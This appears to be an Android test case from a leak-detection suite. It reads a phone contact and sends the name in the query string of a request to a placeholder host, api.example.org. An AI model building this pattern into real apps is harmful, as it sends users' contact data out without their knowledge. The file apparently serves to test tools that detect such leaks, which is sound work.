// In the query string of an address that is fetched.
package cases.sink_url_query;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.net.URL;
import java.net.URLEncoder;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        try {
            String name = URLEncoder.encode(rows.getString(0), "UTF-8");
            new URL("https://api.example.org/v1/contacts?name=" + name).openStream().close();
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
